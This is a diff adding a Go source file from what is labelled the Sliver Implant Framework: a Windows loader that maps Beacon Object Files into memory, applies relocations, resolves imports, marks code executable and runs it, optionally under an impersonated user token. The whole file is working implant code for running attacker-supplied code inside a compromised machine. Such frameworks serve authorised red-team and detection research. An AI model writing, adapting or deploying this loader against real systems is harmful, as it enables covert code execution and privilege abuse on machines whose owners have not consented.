@@ -0,0 +1,306 @@
+//+build windows
+
+package bof
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"debug/pe"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"runtime"
+	"strings"
+	"syscall"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	imageScnCntUninitializedData = 0x00000080
+	imageScnLnkRemove            = 0x00000800
+	imageScnMemDiscardable       = 0x02000000
+	imageScnMemExecute           = 0x20000000
+
+	imageRelAMD64Addr64   = 0x0001
+	imageRelAMD64Addr32NB = 0x0003
+	imageRelAMD64Rel32    = 0x0004
+	imageRelAMD64Rel32_5  = 0x0009
+
+	pageSize = 0x1000
+)
+
+// Execute - Load a Beacon Object File, call entryPoint with the packed
+// arguments and return everything it wrote through the beacon API. BOFs run
+// one at a time on the calling thread, a BOF that crashes takes the implant
+// down with it.
+func Execute(data []byte, entryPoint string, args []byte, token windows.Token) (string, error) {
+	if runtime.GOARCH != "amd64" {
+		return "", errors.New("BOFs require a 64-bit implant")
+	}
+	file, err := pe.NewFile(bytes.NewReader(data))
+	if err != nil {
+		return "", err
+	}
+	if file.Machine != pe.IMAGE_FILE_MACHINE_AMD64 {
+		return "", errors.New("Object file is not x64")
+	}
+	if entryPoint == "" {
+		entryPoint = "go"
+	}
+
+	bofMutex.Lock()
+	defer bofMutex.Unlock()
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	if token != 0 {
+		err = syscalls.ImpersonateLoggedOnUser(token)
+		if err != nil {
+			return "", err
+		}
+		defer windows.RevertToSelf()
+	}
+
+	obj, err := load(file)
+	if err != nil {
+		return "", err
+	}
+	defer windows.VirtualFree(obj.base, 0, windows.MEM_RELEASE)
+	entry, err := obj.symbol(entryPoint)
+	if err != nil {
+		return "", err
+	}
+
+	bofOutput.Reset()
+	// BOFs expect the packed arguments to start with their total length
+	packed := make([]byte, 4+len(args))
+	binary.LittleEndian.PutUint32(packed, uint32(len(args)))
+	copy(packed[4:], args)
+	// {{if .Debug}}
+	log.Printf("[bof] calling %s at 0x%08x", entryPoint, entry)
+	// {{end}}
+	syscall.Syscall(entry, 2, uintptr(unsafe.Pointer(&packed[0])), uintptr(len(packed)), 0)
+	runtime.KeepAlive(packed)
+	return bofOutput.String(), nil
+}
+
+// object - A COFF object mapped into memory, the import address slots
+// referenced by __imp_ symbols follow the sections
+type object struct {
+	file     *pe.File
+	base     uintptr
+	size     uintptr
+	sections []uintptr
+	slots    uintptr
+	imports  map[string]uintptr
+}
+
+func pageAlign(size uintptr) uintptr {
+	return (size + pageSize - 1) &^ (pageSize - 1)
+}
+
+func memory(addr uintptr, size int) []byte {
+	return (*[1 << 30]byte)(unsafe.Pointer(addr))[:size:size]
+}
+
+// loaded - Sections only the linker or debugger care about are skipped
+func loaded(section *pe.Section) bool {
+	return section.Characteristics&(imageScnLnkRemove|imageScnMemDiscardable) == 0 && 0 < section.Size
+}
+
+func load(file *pe.File) (*object, error) {
+	obj := &object{
+		file:     file,
+		sections: make([]uintptr, len(file.Sections)),
+		imports:  map[string]uintptr{},
+	}
+	offsets := make([]uintptr, len(file.Sections))
+	for index, section := range file.Sections {
+		if loaded(section) {
+			offsets[index] = obj.size
+			obj.size += pageAlign(uintptr(section.Size))
+		}
+	}
+	slotsOffset := obj.size
+	obj.size += pageAlign(uintptr(8 * len(file.COFFSymbols)))
+	base, err := windows.VirtualAlloc(uintptr(0), obj.size, windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if base == 0 {
+		return nil, err
+	}
+	obj.base = base
+	obj.slots = base + slotsOffset
+
+	for index, section := range file.Sections {
+		if !loaded(section) {
+			continue
+		}
+		obj.sections[index] = base + offsets[index]
+		if section.Characteristics&imageScnCntUninitializedData != 0 {
+			continue
+		}
+		data, err := section.Data()
+		if err != nil {
+			windows.VirtualFree(base, 0, windows.MEM_RELEASE)
+			return nil, fmt.Errorf("Could not read section %s: %s", section.Name, err)
+		}
+		copy(memory(obj.sections[index], len(data)), data)
+	}
+	err = obj.relocate()
+	if err == nil {
+		err = obj.protect()
+	}
+	if err != nil {
+		windows.VirtualFree(base, 0, windows.MEM_RELEASE)
+		return nil, err
+	}
+	return obj, nil
+}
+
+func (o *object) relocate() error {
+	for index, section := range o.file.Sections {
+		if o.sections[index] == 0 {
+			continue
+		}
+		for _, reloc := range section.Relocs {
+			size := uint64(4)
+			if reloc.Type == imageRelAMD64Addr64 {
+				size = 8
+			}
+			if uint64(section.Size) < uint64(reloc.VirtualAddress)+size {
+				return fmt.Errorf("Relocation outside of section %s", section.Name)
+			}
+			if int(reloc.SymbolTableIndex) >= len(o.file.COFFSymbols) {
+				return fmt.Errorf("Relocation in section %s references an invalid symbol", section.Name)
+			}
+			target, err := o.address(&o.file.COFFSymbols[reloc.SymbolTableIndex])
+			if err != nil {
+				return err
+			}
+			where := o.sections[index] + uintptr(reloc.VirtualAddress)
+			switch {
+			case reloc.Type == imageRelAMD64Addr64:
+				value := memory(where, 8)
+				binary.LittleEndian.PutUint64(value, binary.LittleEndian.Uint64(value)+uint64(target))
+			case reloc.Type == imageRelAMD64Addr32NB || imageRelAMD64Rel32 <= reloc.Type && reloc.Type <= imageRelAMD64Rel32_5:
+				next := int64(where) + 4
+				if imageRelAMD64Rel32 < reloc.Type {
+					next += int64(reloc.Type - imageRelAMD64Rel32)
+				}
+				value := memory(where, 4)
+				delta := int64(int32(binary.LittleEndian.Uint32(value))) + int64(target) - next
+				if delta != int64(int32(delta)) {
+					return fmt.Errorf("Relocation in section %s is out of range", section.Name)
+				}
+				binary.LittleEndian.PutUint32(value, uint32(int32(delta)))
+			default:
+				return fmt.Errorf("Unsupported relocation type 0x%x in section %s", reloc.Type, section.Name)
+			}
+		}
+	}
+	return nil
+}
+
+// address - The address a symbol resolves to, for __imp_ symbols this is
+// the slot holding the address of the imported function
+func (o *object) address(symbol *pe.COFFSymbol) (uintptr, error) {
+	name, err := symbol.FullName(o.file.StringTable)
+	if err != nil {
+		return 0, err
+	}
+	if 0 < symbol.SectionNumber {
+		index := int(symbol.SectionNumber) - 1
+		if len(o.sections) <= index || o.sections[index] == 0 {
+			return 0, fmt.Errorf("Symbol %s is in a section that was not loaded", name)
+		}
+		return o.sections[index] + uintptr(symbol.Value), nil
+	}
+	if symbol.SectionNumber != 0 || !strings.HasPrefix(name, "__imp_") {
+		return 0, fmt.Errorf("Unresolved symbol %s", name)
+	}
+	if slot, ok := o.imports[name]; ok {
+		return slot, nil
+	}
+	proc, err := resolveImport(strings.TrimPrefix(name, "__imp_"))
+	if err != nil {
+		return 0, err
+	}
+	slot := o.slots + uintptr(8*len(o.imports))
+	binary.LittleEndian.PutUint64(memory(slot, 8), uint64(proc))
+	o.imports[name] = slot
+	return slot, nil
+}
+
+// resolveImport - Beacon API functions are provided by the implant, other
+// imports are named LIBRARY$Function or are exported by kernel32
+func resolveImport(name string) (uintptr, error) {
+	if proc, ok := beaconAPI()[name]; ok {
+		return proc, nil
+	}
+	library := "kernel32.dll"
+	function := name
+	if index := strings.Index(name, "$"); 0 < index {
+		library = name[:index]
+		function = name[index+1:]
+	}
+	module, err := windows.LoadLibrary(library)
+	if err != nil {
+		return 0, fmt.Errorf("Could not load %s: %s", library, err)
+	}
+	proc, err := windows.GetProcAddress(module, function)
+	if err != nil {
+		return 0, fmt.Errorf("Could not resolve %s: %s", name, err)
+	}
+	return proc, nil
+}
+
+// protect - Make code sections executable, everything else stays writable
+func (o *object) protect() error {
+	for index, section := range o.file.Sections {
+		if o.sections[index] == 0 || section.Characteristics&imageScnMemExecute == 0 {
+			continue
+		}
+		var oldProtect uint32
+		err := windows.VirtualProtect(o.sections[index], pageAlign(uintptr(section.Size)), windows.PAGE_EXECUTE_READ, &oldProtect)
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// symbol - Address of a function defined by the object
+func (o *object) symbol(name string) (uintptr, error) {
+	for index := 0; index < len(o.file.COFFSymbols); index += 1 + int(o.file.COFFSymbols[index].NumberOfAuxSymbols) {
+		symbol := &o.file.COFFSymbols[index]
+		if symbol.SectionNumber <= 0 {
+			continue
+		}
+		if symbolName, err := symbol.FullName(o.file.StringTable); err == nil && symbolName == name {
+			return o.address(symbol)
+		}
+	}
+	return 0, fmt.Errorf("Entry point %s not found", name)
+}